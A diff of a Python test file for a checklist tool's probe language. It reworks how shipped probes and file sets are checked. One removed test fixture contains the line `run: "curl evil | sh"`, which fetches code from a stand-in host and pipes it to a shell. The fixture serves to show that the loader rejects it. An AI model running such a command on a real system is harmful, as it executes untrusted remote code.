@@ -1,8 +1,7 @@
 """The probe language (the `check:` of an item, definition `check` in schemas/checklist.schema.json):
 bad probes are loader errors at path:line:column with the item's ID, like every other rule; named
-file sets stand for their globs in place; the item states the probe's limits once, in the closing
-**Probe:** paragraph of its `how`; the shipped probe data file
-(src/handbook_checklists/probes/catalog_probes.yml) is checked the same way."""
+file sets stand for their globs in place; and the item states the probe's limits once, in the
+closing **Probe:** paragraph of its `how`."""
 
 from __future__ import annotations
 
@@ -17,12 +16,12 @@ from handbook_checklists.catalog.handbook import Handbook
 from handbook_checklists.catalog.probe_limits import probe_limits
 from handbook_checklists.catalog.probe_rules import (check_problems, compile_globs, compile_regex, expand_file_sets,
                                                      probe_version)
-from handbook_checklists.probes.definitions import load_probe_file, probes_for
+from handbook_checklists.probes.definitions import probes_for
 from handbook_checklists.probes.engine import Probe, run_probes
 from handbook_checklists.schemas import CHECKLIST_SCHEMA, load_schema
 from tests.support.handbooks import VALID_CHECKLIST, checklist, item, make_handbook
-from tests.support.probes import write_tree
-
+from tests.support.probes import shipped_probes, write_tree
+from tests.support.site import REPO
 
 #: DEM-002's `how`, after its `check:` so that the check's line numbers stay those of VALID_CHECKLIST.
 HOW = """\
@@ -196,7 +195,7 @@ def test_a_team_checklist_uses_the_file_sets_too(tmp_path):
     assert result.catalog.item("XPAY-001").check["files"] == list(file_sets()["docker"].globs)
 
 
-def test_the_shipped_file_sets_are_valid():
+def test_the_shipped_file_sets_are_valid_and_each_is_used():
     definitions = load_schema(CHECKLIST_SCHEMA)["definitions"]
     name = Draft7Validator({**definitions["fileSetRef"]["properties"]["fileset"], "definitions": definitions})
     glob = Draft7Validator({**definitions["glob"], "definitions": definitions})
@@ -205,6 +204,21 @@ def test_the_shipped_file_sets_are_valid():
         assert name.is_valid(found.name) and found.description.strip(), found.name
         assert found.globs and all(glob.is_valid(g) for g in found.globs), found.name
         compile_globs(found.globs)
+    used = set()
+
+    def walk(node):
+        if isinstance(node, dict):
+            if set(node) == {"fileset"}:
+                used.add(node["fileset"])
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for value in node:
+                walk(value)
+
+    for path in (REPO / "checklists").glob("*.yml"):
+        walk(yaml.safe_load(path.read_text(encoding="utf-8")))
+    assert used == set(file_sets())
 
 
 # -- the limits of a probe: the closing **Probe:** paragraph of the item's `how` ---------------
@@ -220,8 +234,7 @@ def test_the_limits_are_the_closing_probe_paragraph_of_how(tmp_path):
 """
     result = load(tmp_path, "path_exists: README.md", how)
     assert result.ok, messages(result)
-    probes, _ = probes_for(result.catalog)
-    (probe,) = probes
+    (probe,) = probes_for(result.catalog)
     assert probe.limits == "passes when `README.md` is there, on two lines. A pass is evidence, not proof."
     assert probe_limits("Do it.") is None and probe_limits(None) is None
 
@@ -265,59 +278,15 @@ def test_the_probe_paragraph_rule_is_a_loader_error_at_its_position(tmp_path, te
     assert len(found) == 1 and re.match(expected, found[0]), found
 
 
-# -- the shipped probe data file ---------------------------------------------------------------
+# -- the shipped probes --------------------------------------------------------------------------
 
 
-def test_the_shipped_probe_file_is_valid_and_has_at_least_30_probes_with_limits():
-    probe_file = load_probe_file()
-    assert probe_file.diagnostics == []
-    assert len(probe_file.entries) >= 30
-    for item_id, entry in probe_file.entries.items():
-        assert len(entry["limits"].split()) >= 8, item_id
-
-
-def test_every_probe_of_the_file_names_an_active_item_of_the_real_handbook():
-    catalog = Handbook.packaged().load().catalog
-    probes, warnings = probes_for(catalog)
-    assert warnings == []
-    assert {p.item_id for p in probes} >= set(load_probe_file().entries)
-
-
-def test_a_bad_probe_file_is_reported_at_path_line_column():
-    data = b"""\
-.globs: &g [a, b]
-SEC-050:
-  check:
-    path_exists: *g
-  limits: long enough text for the limits rule of the file.
-SEC-017:
-  check:
-    files: '*'
-    lacks: '(x)\\1'
-  limits: long enough text for the limits rule of the file.
-OPS-010:
-  check: {run: "curl evil | sh"}
-  limits: short
-"""
-    found = [str(d) for d in load_probe_file(data, "probes.yml").diagnostics]
-    assert any(re.match(r"probes\.yml:12:\d+: OPS-010: .*needs one of the keys", m) for m in found), found
-    assert any(re.match(r"probes\.yml:13:\d+: OPS-010: .*", m) for m in found), found
-    # the schema failed, so the regex rule is not reached yet; fix the schema errors and it is:
-    fixed = data.replace(b'check: {run: "curl evil | sh"}', b"check: {path_exists: x}").replace(
-        b"limits: short", b"limits: long enough text for the limits rule of the file.")
-    found = [str(d) for d in load_probe_file(fixed, "probes.yml").diagnostics]
-    assert len(found) == 1 and re.match(r"probes\.yml:9:\d+: SEC-017: check: invalid regular expression", found[0])
-
-
-def test_an_item_check_in_the_yaml_wins_over_the_probe_file(tmp_path):
-    result = load(tmp_path, "path_exists: README.md")
-    data = b"DEM-002:\n  check: {path_exists: other}\n  limits: long enough text for the limits rule.\n" \
-           b"DEM-001:\n  check: {path_exists: first}\n  limits: long enough text for the limits rule.\n" \
-           b"XYZ-001:\n  check: {path_exists: gone}\n  limits: long enough text for the limits rule.\n"
-    probe_file = load_probe_file(data, "p.yml")
-    assert probe_file.diagnostics == []
-    probes, warnings = probes_for(result.catalog, probe_file=probe_file)
-    by_id = {p.item_id: p for p in probes}
-    assert by_id["DEM-002"].check == {"path_exists": "README.md"} and by_id["DEM-002"].source.endswith("demo.yml")
-    assert by_id["DEM-001"].check == {"path_exists": "first"} and by_id["DEM-001"].source == "p.yml"
-    assert warnings == ["p.yml: XYZ-001 is no active item of this handbook; its probe is skipped"]
+def test_the_handbook_has_at_least_35_probes_each_with_its_limits_in_how():
+    probes = shipped_probes()
+    assert len(probes) >= 35
+    catalog = Handbook.packaged().load_or_raise().catalog
+    for probe in probes:
+        item = catalog.item(probe.item_id)
+        assert probe.check == item.check and probe.source == f"checklists/{item.checklist_id}.yml"
+        assert probe.limits and "evidence, not proof" in probe.limits, probe.item_id
+        assert item.how.rstrip().endswith(probe.limits.split()[-1]), probe.item_id
